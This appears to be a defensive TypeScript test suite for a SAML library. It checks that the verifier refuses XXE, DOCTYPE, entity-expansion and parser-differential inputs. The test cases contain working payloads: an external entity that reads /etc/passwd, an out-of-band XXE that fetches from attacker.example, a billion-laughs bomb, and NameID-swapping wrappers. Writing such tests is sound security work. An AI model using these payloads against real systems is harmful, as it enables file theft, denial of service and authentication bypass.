/**
 * DOCTYPE, XXE, entity expansion and parser differentials: bytes that two parsers (or the parser
 * and the canonicaliser) could read differently are refused outright.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { buildResponse, signed } from '../helpers/idp.js';
import { expectCode, verify } from '../helpers/expect.js';

const good = signed(buildResponse(), 'assertion');
const NAMEID_END = 'alice@example.com</saml:NameID>';
const withNameId = (raw: string): string => good.replace(NAMEID_END, `${raw}</saml:NameID>`);

describe('DOCTYPE and entities', () => {
  it('internal entity expanding to an admin NameID', async () => {
    const xml = `<!DOCTYPE samlp:Response [<!ENTITY who "admin@example.com">]>${withNameId('&who;')}`;
    await expectCode(verify(xml), 'DTD_FORBIDDEN');
  });

  it('XXE: external entity reading /etc/passwd', async () => {
    const xml = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${withNameId('&x;')}`;
    await expectCode(verify(xml), 'DTD_FORBIDDEN');
  });

  it('out-of-band XXE through an external parameter entity', async () => {
    const xml = `<!DOCTYPE r [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd"> %x;]>${good}`;
    await expectCode(verify(xml), 'DTD_FORBIDDEN');
  });

  it('billion laughs', async () => {
    let dtd = '<!ENTITY l0 "lol">';
    for (let i = 1; i <= 9; i++) dtd += `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`;
    await expectCode(verify(`<!DOCTYPE r [${dtd}]>${withNameId('&l9;')}`), 'DTD_FORBIDDEN');
  });

  it('DOCTYPE without an internal subset', async () => {
    await expectCode(verify(`<!DOCTYPE samlp:Response>${good}`), 'DTD_FORBIDDEN');
  });

  it('DOCTYPE declaring ID attributes (ATTLIST) to redirect ID lookups', async () => {
    const xml = `<!DOCTYPE samlp:Response [<!ATTLIST saml:NameID ID ID #IMPLIED>]>${good}`;
    await expectCode(verify(xml), 'DTD_FORBIDDEN');
  });

  it('undefined entity reference without a DTD', async () => {
    await expectCode(verify(withNameId('&admin;')), 'MALFORMED_XML');
  });
});

describe('parser differentials', () => {
  it('second root element after the signed Response', async () => {
    const evil = buildResponse({ nameId: 'admin@example.com', responseId: '_r2', assertionId: '_a2' });
    await expectCode(verify(good + evil), 'MALFORMED_XML');
  });

  it('second root element before the signed Response', async () => {
    const evil = buildResponse({ nameId: 'admin@example.com', responseId: '_r2', assertionId: '_a2' });
    await expectCode(verify(evil + good), 'MALFORMED_XML');
  });

  it('trailing text after the root', async () => {
    await expectCode(verify(`${good}garbage`), 'MALFORMED_XML');
  });

  it('CDATA section after the root', async () => {
    await expectCode(verify(`${good}<![CDATA[x]]>`), 'MALFORMED_XML');
  });

  it('duplicate ID attribute on the assertion', async () => {
    await expectCode(verify(good.replace('ID="_assert1"', 'ID="_assert1" ID="_evil"')), 'MALFORMED_XML');
  });

  it('duplicate namespace declaration', async () => {
    const xml = good.replace('<samlp:Response ', '<samlp:Response xmlns:saml="urn:evil" ');
    await expectCode(verify(xml), 'MALFORMED_XML');
  });

  // Known limitation (docs/security.md): xmldom keeps only the last of a:v / b:v (one expanded
  // name) and reports nothing, so samlkit cannot refuse it. What matters holds: the canonicaliser and
  // the reader share that one DOM, so the duplicate cannot split what is signed from what is read.
  it('same attribute twice through two prefixes of one namespace: one DOM, the signed identity', async () => {
    const xml = good.replace(
      '<samlp:Response ',
      '<samlp:Response xmlns:a="urn:x" xmlns:b="urn:x" a:v="1" b:v="2" ',
    );
    const profile = await verify(xml);
    assert.equal(profile.nameId, 'alice@example.com');
  });

  it('truncated document', async () => {
    await expectCode(verify(good.slice(0, good.length - 20)), 'MALFORMED_XML');
  });

  it('mismatched end tag', async () => {
    await expectCode(verify(good.replace('</saml:NameID>', '</saml:NameId>')), 'MALFORMED_XML');
  });

  it('unbound namespace prefix', async () => {
    await expectCode(verify(good.replace('<samlp:Status>', '<evil:X/><samlp:Status>')), 'MALFORMED_XML');
  });

  it('raw < inside an attribute value', async () => {
    await expectCode(verify(good.replace('SessionIndex="_session1"', 'SessionIndex="<x"')), 'MALFORMED_XML');
  });

  // Placed on the (unsigned) Response so that only the parser can catch them.
  it('NUL character reference (&#0;)', async () => {
    await expectCode(
      verify(good.replace('<samlp:Response ', '<samlp:Response Consent="urn:x&#0;" ')),
      'MALFORMED_XML',
    );
  });

  it('control character reference (&#x1;)', async () => {
    await expectCode(
      verify(good.replace('<samlp:Response ', '<samlp:Response Consent="urn:x&#x1;" ')),
      'MALFORMED_XML',
    );
  });

  it('lone surrogate character reference (&#xD800;)', async () => {
    await expectCode(
      verify(good.replace('<samlp:Response ', '<samlp:Response Consent="urn:x&#xD800;" ')),
      'MALFORMED_XML',
    );
  });

  it('signed U+FFFD swapped for a lone surrogate: same UTF-8 digest, different text', async () => {
    // Node's UTF-8 encoder turns a lone surrogate into EF BF BD, the bytes of U+FFFD, so the
    // canonical form (and the digest) do not change while the DOM text does.
    const xml = signed(buildResponse({ attributes: { firstName: ['Al\uFFFDce'] } }));
    await expectCode(verify(xml.replace('Al\uFFFDce', 'Al&#xD800;ce')), 'MALFORMED_XML');
  });

  it('raw control character', async () => {
    await expectCode(
      verify(good.replace('<samlp:Response ', '<samlp:Response Consent="urn:x\u0001" ')),
      'MALFORMED_XML',
    );
  });

  it('processing instruction before the root', async () => {
    await expectCode(
      verify(`<?xml-stylesheet href="https://attacker.example/x.xsl"?>${good}`),
      'MALFORMED_XML',
    );
  });

  it('XML declaration after leading whitespace', async () => {
    await expectCode(verify(`  <?xml version="1.0" encoding="UTF-8"?>${good}`), 'MALFORMED_XML');
  });

  it('two XML declarations', async () => {
    await expectCode(verify(`<?xml version="1.0"?><?xml version="1.0"?>${good}`), 'MALFORMED_XML');
  });

  it('comment containing -- before the root', async () => {
    await expectCode(verify(`<!-- a -- b -->${good}`), 'MALFORMED_XML');
  });

  it('rebinding the xml prefix', async () => {
    await expectCode(
      verify(good.replace('<samlp:Response ', '<samlp:Response xmlns:xml="urn:evil" ')),
      'MALFORMED_XML',
    );
  });

  it('declaring the xmlns prefix', async () => {
    await expectCode(
      verify(good.replace('<samlp:Response ', '<samlp:Response xmlns:xmlns="urn:evil" ')),
      'MALFORMED_XML',
    );
  });

  it('UTF-8 BOM with a declaration claiming UTF-16', async () => {
    const xml = Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from(`<?xml version="1.0" encoding="UTF-16"?>${good}`),
    ]);
    await expectCode(verify(xml), 'MALFORMED_XML');
  });

  it('declaration claiming ISO-8859-1 over UTF-8 bytes', async () => {
    const xml = `<?xml version="1.0" encoding="ISO-8859-1"?>${good}`;
    await expectCode(verify(xml), 'MALFORMED_XML');
  });
});
